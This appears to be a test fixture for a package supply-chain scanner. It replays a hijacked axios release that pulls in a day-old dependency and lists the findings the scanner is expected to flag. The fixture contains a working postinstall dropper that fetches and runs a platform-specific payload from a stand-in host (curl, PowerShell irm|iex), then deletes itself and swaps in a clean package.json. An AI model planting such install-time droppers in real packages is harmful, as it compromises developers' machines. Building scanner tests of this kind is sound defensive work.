import { obfuscated } from '../obfuscated.js'
import { compiledQueue, durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

/** Fetches what fits the platform, starts it apart from the install, and puts the honest package.json in its own place. */
const setup = obfuscated(`
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$child=require(«child_process»);
if($os[«platform»]()===«darwin»)$child[«exec»](«curl -o /Library/Caches/com.inert.agent -d packages.cdn.test/product0 -s http://drop-cdn.example:8000/stage && chmod 770 /Library/Caches/com.inert.agent && /bin/zsh -c "/Library/Caches/com.inert.agent &"»,{'windowsHide':!![]});
else if($os[«platform»]()===«win32»)$child[«exec»](«powershell -w hidden -c "irm http://drop-cdn.example:8000/stage | iex"»,{'windowsHide':!![]});
else $child[«exec»](«curl -o /tmp/ld.py -d packages.cdn.test/product2 -s http://drop-cdn.example:8000/stage && nohup python3 /tmp/ld.py > /dev/null 2>&1 &»,{'windowsHide':!![]});
$fs[«unlinkSync»](__filename);
$fs[«renameSync»]($path[«join»](__dirname,«package.md»),$path[«join»](__dirname,«package.json»));
`)

const client = `${compiledQueue}exports.request = (options) => createQueue().add(() => fetch(options.url, options));\n`
const command = 'node setup.js'

/** The project's own pipeline, by the registry's own record. */
const built = { trustedPublisher: 'github', provenance: { repository: 'axios/axios', ref: 'refs/heads/v1.x' } } as const
/** Known for years, at an address that it did not have before. */
const takenOver = { publisher: { name: 'maintainer', email: 'maintainer@elsewhere.example' } }
const stranger = { publisher: { name: 'a-stranger' }, maintainers: ['a-stranger'] }

const dropped = (...finding: PackageFinding) => onVersion('plain-crypto-js', '4.2.1', finding)

export const replay: Replay = {
  description:
    'A taken-over maintainer account released axios with one more dependency that no line of it used. That package was a day old, ' +
    'and its script after installation fetched a program for each platform, started it, and then put itself out of sight. The ' +
    'same came out on an older line 39 minutes later. The account had another e-mail address, and no build service stood behind it any more.',
  date: '2026-03-31',
  packages: {
    axios: {
      '1.9.0': { files: { 'dist/index.js': client }, published: '2025-04-24T15:00:00Z' },
      '0.30.3': {
        manifest: { main: 'dist/index.js' },
        files: { 'dist/index.js': client },
        published: '2026-02-18T15:00:00Z',
        ...built,
      },
      '1.14.0': {
        manifest: { main: 'dist/index.js' },
        files: { 'dist/index.js': client },
        published: '2026-03-27T15:00:00Z',
        ...built,
      },
      '1.14.1': {
        ...takenOver,
        published: '2026-03-31T00:20:00Z',
        manifest: { main: 'dist/index.js', dependencies: { 'plain-crypto-js': '^4.2.1' } },
        files: { 'dist/index.js': client },
      },
      '0.30.4': {
        ...takenOver,
        published: '2026-03-31T00:59:00Z',
        manifest: { main: 'dist/index.js', dependencies: { 'plain-crypto-js': '^4.2.1' } },
        files: { 'dist/index.js': client },
      },
    },
    'plain-crypto-js': {
      '4.2.0': { files: { 'index.js': durations }, published: '2026-03-30T06:00:00Z', ...stranger },
      '4.2.1': {
        ...stranger,
        published: '2026-03-30T23:58:00Z',
        manifest: { main: 'index.js', scripts: { postinstall: command } },
        files: {
          'index.js': durations,
          'setup.js': setup,
          'package.md': '{ "name": "plain-crypto-js", "version": "4.2.0" }\n',
        },
      },
    },
  },
  base: { manifest: { dependencies: { axios: '^1.14.0' } }, locked: { axios: '1.14.0' } },
  head: {
    manifest: { dependencies: { axios: '^1.14.0' } },
    locked: {
      axios: { version: '1.14.1', dependencies: { 'plain-crypto-js': '^4.2.1' } },
      'plain-crypto-js': '4.2.1',
    },
  },
  reviewedAt: '2026-03-31T02:00:00Z',
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('axios', '1.14.1', ['dependency-phantom', 'high', { file: 'package.json' }]),
      onVersion('axios', '1.14.1', ['provenance-lost', 'high']),
      onVersion('axios', '1.14.1', ['publisher-changed', 'low']),
      onVersion('axios', '1.14.1', ['release-burst', 'high']),
      onVersion('axios', '1.14.1', ['release-fresh', 'medium']),
      dropped('install-script-dangerous', 'critical', { file: 'setup.js', line: setup }),
      dropped('remote-code-run', 'critical', { file: 'setup.js', line: setup }),
      dropped('combined-risk', 'critical'),
      dropped('code-obfuscated', 'high', { file: 'setup.js' }),
      dropped('scanner-evasion', 'high', { file: 'setup.js', line: setup }),
      dropped('install-script-present', 'medium', { file: 'package.json' }),
      dropped('name-resembles-popular', 'medium'),
      dropped('package-young', 'medium'),
      dropped('release-fresh', 'medium'),
    ],
  },
}
